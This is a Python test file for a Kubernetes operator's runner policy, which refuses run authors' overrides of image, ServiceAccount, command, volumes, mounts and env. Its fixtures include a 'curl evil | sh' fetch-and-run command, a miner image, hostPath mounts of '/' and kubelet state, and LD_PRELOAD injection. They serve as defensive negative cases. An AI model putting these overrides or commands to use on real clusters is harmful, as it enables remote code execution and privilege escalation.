"""The runner policy: a RockyRun author cannot change who or what runs.

Unit cases of the pure check (logic/runner_policy.py), then the controller on an API
server (kmock here; the same scenarios on the real kube-apiserver in
test_runner_policy_realapi.py): under the default policy a run with a foreign image,
ServiceAccount, hostPath volume or command override ends Failed with a condition naming
the field and the rule, and no pod exists; when the admin allows that choice the run's
pods carry it and the run succeeds.
"""

from __future__ import annotations

import asyncio
import json
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
from tests.operator.conftest import run_spec
from tests.operator.harness import FAST, Cluster, FakeKubelet, operator_life

from rocky_operator.api.spec import RunnerSpec
from rocky_operator.kube.settings import ControllerSettings
from rocky_operator.logic.pod_manifest import RunnerDefaults
from rocky_operator.logic.runner_policy import (
    RunnerPolicy,
    check_runner_policy,
    image_repository,
    is_allowed_image,
)

DEFAULTS = RunnerDefaults(image="ghcr.io/rocky-dev/rocky-operator:1.0", service_account_name="rr")


DEFAULT_POLICY = RunnerPolicy()


def violations(policy: RunnerPolicy = DEFAULT_POLICY, **runner: Any) -> list[tuple[str, str]]:
    spec = RunnerSpec.model_validate(runner)
    return [(v.field, v.rule) for v in check_runner_policy(spec, policy, DEFAULTS)]


def test_default_policy_allows_what_changes_no_identity_or_code() -> None:
    assert (
        violations(
            image=DEFAULTS.image,
            serviceAccountName="rr",
            resources={"limits": {"memory": "1Gi"}},
            nodeSelector={"pool": "etl"},
            tolerations=[{"key": "etl", "operator": "Exists"}],
            activeDeadlineSeconds=60,
            env=[
                {"name": "TZ", "value": "UTC"},
                {"name": "X", "valueFrom": {"secretKeyRef": {"name": "s", "key": "k"}}},
            ],
            volumes=[
                {"name": "w", "persistentVolumeClaim": {"claimName": "w"}},
                {"name": "c", "configMap": {"name": "c"}},
                {"name": "s", "secret": {"secretName": "s"}},
                {"name": "e", "emptyDir": {}},
            ],
            volumeMounts=[
                {"name": "w", "mountPath": "/data"},
                {"name": "c", "mountPath": "/mnt/c"},
            ],
        )
        == []
    )


@pytest.mark.parametrize(
    ("runner", "expected"),
    [
        ({"image": "evil.io/miner:1"}, ("spec.runner.image", "images")),
        ({"image": "ghcr.io/rocky-dev/rocky-operator:0.9"}, ("spec.runner.image", "images")),
        (
            {"serviceAccountName": "cluster-admin-sa"},
            ("spec.runner.serviceAccountName", "serviceAccounts"),
        ),
        ({"command": ["sh", "-c", "curl evil | sh"]}, ("spec.runner.command", "command")),
        (
            {"volumes": [{"name": "h", "hostPath": {"path": "/"}}]},
            ("spec.runner.volumes[0].hostPath", "volumeTypes"),
        ),
        (
            {"volumes": [{"name": "t", "projected": {"sources": []}}]},
            ("spec.runner.volumes[0].projected", "volumeTypes"),
        ),
        (
            {"volumeMounts": [{"name": "w", "mountPath": "/opt/venv/lib"}]},
            ("spec.runner.volumeMounts[0].mountPath", "mountPaths"),
        ),
        (
            {"volumeMounts": [{"name": "w", "mountPath": "/data/../opt"}]},
            ("spec.runner.volumeMounts[0].mountPath", "mountPaths"),
        ),
        (
            {"volumeMounts": [{"name": "w", "mountPath": "/tmp/.local"}]},
            ("spec.runner.volumeMounts[0].mountPath", "mountPaths"),
        ),
        ({"env": [{"name": "PYTHONPATH", "value": "/data"}]}, ("spec.runner.env[0]", "command")),
        (
            {"env": [{"name": "LD_PRELOAD", "value": "/data/x.so"}]},
            ("spec.runner.env[0]", "command"),
        ),
        ({"env": [{"name": "ROCKY_TASK", "value": "{}"}]}, ("spec.runner.env[0]", "reservedEnv")),
        (
            {"env": [{"name": "N", "valueFrom": {"fieldRef": {"fieldPath": "spec.nodeName"}}}]},
            ("spec.runner.env[0].valueFrom.fieldRef", "envSources"),
        ),
    ],
)
def test_default_policy_refuses_identity_and_code_changes(
    runner: dict[str, Any], expected: tuple[str, str]
) -> None:
    assert violations(**runner) == [expected]


def test_admin_allows_each_rule() -> None:
    assert violations(RunnerPolicy(images=("evil.io/miner",)), image="evil.io/miner:1") == []
    assert violations(RunnerPolicy(images=("evil.io/",)), image="evil.io/a/b@sha256:00") == []
    assert violations(RunnerPolicy(service_accounts=("sa",)), serviceAccountName="sa") == []
    assert violations(RunnerPolicy(allow_command_override=True), command=["sh"]) == []
    policy = RunnerPolicy(volume_types=("hostPath",), mount_paths=("/opt",))
    assert (
        violations(
            policy,
            volumes=[{"name": "h", "hostPath": {"path": "/x"}}],
            volumeMounts=[{"name": "h", "mountPath": "/opt/x"}],
        )
        == []
    )


@pytest.mark.parametrize(
    ("image", "entry", "allowed"),
    [
        ("ghcr.io/acme/rocky:1", "ghcr.io/acme/rocky", True),
        ("ghcr.io/acme/rocky@sha256:ab", "ghcr.io/acme/rocky", True),
        ("ghcr.io/acme/rocky-evil:1", "ghcr.io/acme/rocky", False),  # not a prefix match
        ("ghcr.io/acme-evil/rocky:1", "ghcr.io/acme", False),
        ("ghcr.io/acme/x/y:2", "ghcr.io/acme/", True),
        ("ghcr.io/acme/rocky:2", "ghcr.io/acme/rocky:1", False),  # a tag pins that tag
        ("r.io/a@sha256:11", "r.io/a@sha256:11", True),
        ("r.io/a@sha256:12", "r.io/a@sha256:11", False),
        ("localhost:5000/a", "localhost:5000/a", True),
        ("anything", "*", True),
    ],
)
def test_image_entries(image: str, entry: str, allowed: bool) -> None:
    assert is_allowed_image(image, [entry]) is allowed


def test_image_repository_keeps_registry_port() -> None:
    assert image_repository("localhost:5000/a/b:3") == "localhost:5000/a/b"


# --- The controller: refused runs end Failed without pods; allowed runs carry the choice ---

#: Each case: the spec.runner override, the field the condition names, the admin's allowance,
#: and what the allowed run's pods show.
CASES: dict[str, tuple[dict[str, Any], str, RunnerPolicy, Any]] = {
    "foreign-image": (
        {"image": "evil.io/miner:6"},
        "spec.runner.image",
        RunnerPolicy(images=("evil.io/",)),
        lambda pod: pod["spec"]["containers"][0]["image"] == "evil.io/miner:6",
    ),
    "service-account": (
        {"serviceAccountName": "powerful"},
        "spec.runner.serviceAccountName",
        RunnerPolicy(service_accounts=("powerful",)),
        lambda pod: pod["spec"]["serviceAccountName"] == "powerful",
    ),
    "host-path": (
        {
            "volumes": [{"name": "host", "hostPath": {"path": "/var/lib/kubelet"}}],
            "volumeMounts": [{"name": "host", "mountPath": "/data/host"}],
        },
        "spec.runner.volumes[0].hostPath",
        RunnerPolicy(volume_types=("hostPath",)),
        lambda pod: any("hostPath" in v for v in pod["spec"]["volumes"]),
    ),
    "command-override": (
        {"command": ["sh", "-c", "exec rocky-runner"]},
        "spec.runner.command",
        RunnerPolicy(allow_command_override=True),
        lambda pod: pod["spec"]["containers"][0]["command"][0] == "sh",
    ),
}


def _conditions(run: dict[str, Any]) -> dict[str, dict[str, Any]]:
    return {c["type"]: c for c in run["status"].get("conditions") or []}


def _runner(case: str) -> dict[str, Any]:
    # Only the field under test differs from what the default policy allows.
    return {"image": "ghcr.io/rocky-dev/rocky-operator:test", **CASES[case][0]}


SETTINGS = replace(
    FAST,
    runner_policy=RunnerPolicy(),
    runner_defaults=RunnerDefaults(image="ghcr.io/rocky-dev/rocky-operator:test"),
)


@pytest.mark.parametrize("case", sorted(CASES))
async def test_refused_under_the_default_policy(
    api_server: str,
    cluster: Cluster,
    kubelet: FakeKubelet,
    warehouse: Path,
    case: str,
    default_settings: ControllerSettings,
) -> None:
    _, field, _, _ = CASES[case]
    async with operator_life(api_server, cluster.namespace, settings=default_settings):
        await cluster.create_run(f"refused-{case}", run_spec(warehouse, runner=_runner(case)))
        run = await cluster.wait_finished(f"refused-{case}", deadline_seconds=60)
    assert run["status"]["phase"] == "Failed"
    accepted = _conditions(run)["Accepted"]
    assert (accepted["status"], accepted["reason"]) == ("False", "RunnerPolicyViolation")
    assert accepted["message"].startswith(field + ":")
    assert "runner.policy." in accepted["message"]  # names the rule the admin would change
    assert await cluster.pods() == []
    assert json.dumps(run["status"]["runOutput"]).count(field) >= 1


@pytest.mark.parametrize("case", sorted(CASES))
async def test_allowed_when_the_admin_allows_it(
    api_server: str,
    cluster: Cluster,
    kubelet: FakeKubelet,
    warehouse: Path,
    case: str,
    allowed_settings: ControllerSettings,
) -> None:
    _, _, _, pod_shows = CASES[case]
    kubelet.paused = True
    async with operator_life(api_server, cluster.namespace, settings=allowed_settings):
        await cluster.create_run(f"allowed-{case}", run_spec(warehouse, runner=_runner(case)))
        pods: list[dict[str, Any]] = []
        for _ in range(600):
            if pods := await cluster.pods(f"allowed-{case}"):
                break
            await asyncio.sleep(0.1)
        assert pods, "no runner pod was created"
        assert all(pod_shows(pod) for pod in pods)
        kubelet.paused = False
        run = await cluster.wait_finished(f"allowed-{case}", deadline_seconds=60)
    assert run["status"]["phase"] == "Succeeded", run["status"]
